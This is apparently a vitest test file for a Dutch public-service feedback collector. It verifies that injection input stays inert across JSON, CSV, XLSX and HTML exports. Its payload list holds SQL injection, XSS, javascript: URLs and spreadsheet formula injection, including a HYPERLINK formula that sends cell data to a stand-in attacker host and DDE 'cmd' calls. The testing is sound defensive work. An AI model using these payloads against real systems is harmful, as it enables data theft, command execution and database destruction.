import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { ADMIN_TOKEN, json, testCollector } from '../test-support/fixtures.ts';

// Injection ends up inert in every output. SQL metacharacters, markup, javascript: URLs and
// spreadsheet formulas go in through every text field a citizen or an administrator fills (the
// comment, the step, the page; organisation and service names, token labels) and come out as the
// same text: exactly as stored in the API's JSON, formula-neutralised in CSV, as string cells in
// XLSX, escaped in HTML. The HTML documents are parsed by a real browser in
// e2e/injection.test.ts; the dashboard shows comments as text in e2e/dashboard.test.ts ("shows
// comments as text only: markup and javascript: links stay inert").

const PAYLOADS = [
  "Robert'); DROP TABLE feedback;--",
  "' OR '1'='1' --",
  '"; DELETE FROM services WHERE "1"="1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=2+2',
  'Gewone tekst; met "aanhalingstekens"\nen een tweede regel',
];

/** The text as stored: the contract trims comments and steps. */
const stored = (payload: string) => payload.trim();
/** What a spreadsheet would read as a formula (OWASP: = + - @, and tab or CR before one). */
const FORMULA_START = /^[=+\-@\t\r]/;
/** A CSV cell that starts like a formula is one of our numbers ("-0,05") or neutralised text. */
const inertCell = (cell: string) => !FORMULA_START.test(cell) || /^-?\d+(,\d+)?$/.test(cell);

const ORGANISATION_NAME = '<script>alert("org")</script> & Zonen';
const SERVICE_NAME = '=HYPERLINK("https://evil.example","Dienst")';

async function collectorWithPayloads() {
  const collector = await testCollector({ adminToken: ADMIN_TOKEN, minPublicN: 1 });
  const { admin, app } = collector;
  expect(
    (await admin('POST', '/organisations', { id: 'org-x', name: ORGANISATION_NAME })).status,
  ).toBe(201);
  expect(
    (
      await admin('POST', '/services', {
        id: 'dienst-x',
        name: SERVICE_NAME,
        organisationId: 'org-x',
      })
    ).status,
  ).toBe(201);
  const created = await json(
    await admin('POST', '/tokens', {
      label: '<img src=x onerror=alert(1)>',
      role: 'provider',
      organisationId: 'org-x',
    }),
  );
  const token = created.token as string;
  const ids: string[] = [];
  for (const [i, payload] of PAYLOADS.entries()) {
    const id = crypto.randomUUID();
    ids.push(id);
    const response = await collector.post({
      id,
      serviceId: 'dienst-x',
      rating: (i % 5) + 1,
      lang: 'nl',
      comment: payload,
      step: payload.slice(0, 64),
      page: `/formulier/${payload}`,
    });
    expect(response.status, JSON.stringify(payload)).toBe(201);
  }
  const get = (path: string) =>
    app.request(path, { headers: { authorization: `Bearer ${token}` } });
  return { ...collector, get, ids, token };
}

describe('injection ends up inert in every output', () => {
  it('stores every payload exactly as text, and the API JSON returns it unchanged', async () => {
    const { get, ids, rowCount } = await collectorWithPayloads();
    // Nothing was executed: every table is still there, with what was posted.
    expect(await rowCount('feedback')).toBe(PAYLOADS.length);
    expect(await rowCount('services')).toBe(3);

    const page = await json(await get('/api/v1/services/dienst-x/feedback?limit=100'));
    const byId = new Map(page.items.map((item: { id: string }) => [item.id, item]));
    for (const [i, payload] of PAYLOADS.entries()) {
      const item = byId.get(ids[i]!) as { comment: string; step: string; page: string };
      expect(item.comment).toBe(stored(payload));
      expect(item.step).toBe(stored(payload.slice(0, 64)));
      // The page keeps its path only: nothing from "?" on.
      expect(item.page).toBe(`/formulier/${payload}`.replace(/[?#][\s\S]*$/, '').trim());
    }

    const exported = await json(await get('/api/v1/services/dienst-x/export?format=json'));
    expect(exported.map((row: { comment: string }) => row.comment).sort()).toEqual(
      PAYLOADS.map(stored).sort(),
    );
    const services = await json(await get('/api/v1/services'));
    expect(services).toEqual([expect.objectContaining({ id: 'dienst-x', name: SERVICE_NAME })]);
    const report = await json(await get('/api/v1/reports/annual'));
    expect(JSON.stringify(report)).toContain(JSON.stringify(ORGANISATION_NAME));
  });

  it('CSV: every cell parses back to the text, formulas neutralised with an apostrophe', async () => {
    const { get } = await collectorWithPayloads();
    const documents = {
      export: await get('/api/v1/services/dienst-x/export?format=csv'),
      annualReport: await get('/api/v1/reports/annual?format=csv'),
      openData: await get('/api/v1/public/stats.csv'),
    };
    for (const [name, response] of Object.entries(documents)) {
      expect(response.status, name).toBe(200);
      const rows: string[][] = parse(Buffer.from(await response.arrayBuffer()), {
        bom: true,
        delimiter: ';',
        record_delimiter: '\r\n',
        relax_column_count: true,
      });
      for (const cell of rows.flat()) expect(inertCell(cell), `${name}: ${cell}`).toBe(true);
      const cells = new Set(rows.flat());
      const neutralised = (text: string) => (FORMULA_START.test(text) ? `'${text}` : text);
      if (name !== 'export') {
        expect(cells.has(neutralised(SERVICE_NAME)), name).toBe(true);
        expect(cells.has(ORGANISATION_NAME), name).toBe(true);
      } else {
        for (const payload of PAYLOADS) {
          expect(cells.has(neutralised(stored(payload))), JSON.stringify(payload)).toBe(true);
        }
      }
    }
  });

  it('XLSX: every text is a string cell, never a formula', async () => {
    const { get } = await collectorWithPayloads();
    const response = await get('/api/v1/services/dienst-x/export?format=xlsx');
    expect(response.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await response.arrayBuffer());
    const sheet = workbook.getWorksheet('Feedback')!;
    const headings = sheet.getRow(1).values as unknown[];
    const column = (heading: string) => headings.indexOf(heading);
    const comments: unknown[] = [];
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula).toBeUndefined();
      });
      if (row.number === 1) return;
      for (const heading of ['stap', 'pagina', 'opmerking']) {
        expect(row.getCell(column(heading)).type, heading).toBe(ExcelJS.ValueType.String);
      }
      comments.push(row.getCell(column('opmerking')).value);
    });
    // In a workbook a string cell is text whatever it starts with: no apostrophe is added.
    expect(comments.sort()).toEqual(PAYLOADS.map(stored).sort());
  });

  it('HTML: the annual report and /transparantie carry the names escaped, never as markup', async () => {
    const { get } = await collectorWithPayloads();
    const pages = {
      report: await get('/api/v1/reports/annual?format=html'),
      ownReport: await get('/api/v1/reports/annual?format=html&organisation=org-x'),
      transparency: await get('/transparantie'),
    };
    for (const [name, response] of Object.entries(pages)) {
      expect(response.status, name).toBe(200);
      const text = await response.text();
      expect(text, name).not.toContain('<script>alert');
      expect(text, name).not.toContain('<img');
      expect(text, name).toContain(
        '&lt;script&gt;alert(&quot;org&quot;)&lt;/script&gt; &amp; Zonen',
      );
      expect(text, name).toContain(
        '=HYPERLINK(&quot;https://evil.example&quot;,&quot;Dienst&quot;)',
      );
      // The only scripts a page may run come from the collector itself (CSP script-src 'self').
      expect(response.headers.get('content-security-policy'), name).toContain("script-src 'self'");
    }
  });

  it('the no-JavaScript form answers with fixed text, never the posted one', async () => {
    const { app } = await collectorWithPayloads();
    for (const payload of PAYLOADS.slice(3, 6)) {
      for (const rating of ['4', 'x']) {
        const response = await app.request('/api/v1/feedback/form', {
          method: 'POST',
          headers: { 'content-type': 'application/x-www-form-urlencoded' },
          body: new URLSearchParams({
            serviceId: 'dienst-x',
            rating,
            lang: 'nl',
            comment: payload,
            step: payload,
          }).toString(),
        });
        expect([303, 400]).toContain(response.status);
        // Stored: the thank-you page it leads to; refused: the page that says why.
        const location = response.headers.get('location');
        const text = await (location ? await app.request(location) : response).text();
        expect(text).not.toContain(payload);
        expect(text).not.toContain('alert(1)');
      }
    }
  });
});
